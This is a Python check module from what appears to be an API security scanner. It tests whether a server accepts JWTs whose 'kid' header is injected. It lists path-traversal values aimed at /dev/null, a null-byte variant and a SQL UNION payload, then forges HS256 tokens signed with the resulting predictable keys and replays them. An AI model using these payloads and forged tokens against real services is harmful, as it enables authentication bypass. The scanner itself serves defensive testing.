"""SCN-017 jwt-kid-injection."""

from __future__ import annotations

from typing import Any

from apiward.core import Confidence, OwaspApi2023, Severity
from apiward.scan._context import ScanContext
from apiward.scan._jwt import Jwt
from apiward.scan.checks._base import check
from apiward.scan.checks._jwtcheck import run_jwt_attack
from apiward.scan.checks._jwtprobe import JwtProbe

_KIDS: tuple[tuple[str, bytes], ...] = (
    ("../../../../../../../../dev/null", b""),
    ("/dev/null", b""),
    ("../../../../../../../../dev/null\x00", b""),
    ("x' UNION SELECT 'apiward-kid'-- ", b"apiward-kid"),
)


async def _forge(probe: JwtProbe) -> list[tuple[str, dict[str, Any]]]:
    header = {**probe.token.header, "alg": "HS256"}
    return [(Jwt.hs({**header, "kid": kid}, probe.token.claims, key), {"kid": kid}) for kid, key in _KIDS]


@check(
    id="SCN-017",
    name="jwt-kid-injection",
    title="JWT 'kid' header injection accepted",
    owasp=OwaspApi2023.API2,
    cwe=347,
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    remediation="Treat 'kid' as an opaque lookup key in a fixed key set; never as a path or query fragment.",
    category="jwt",
)
async def jwt_kid_injection(ctx: ScanContext) -> None:
    """The server looks up the verification key from the token's ``kid`` header as a file path or SQL value.

    The scanner sets ``kid`` to ``../../../../dev/null`` (an empty file, so an empty HMAC key) or to a SQL
    ``UNION`` returning a known string, signs with that key and replays a protected request.
    """
    await run_jwt_attack(
        ctx,
        jwt_kid_injection.meta,
        _forge,
        "a token whose 'kid' points at a predictable key was accepted",
        specific=True,
    )
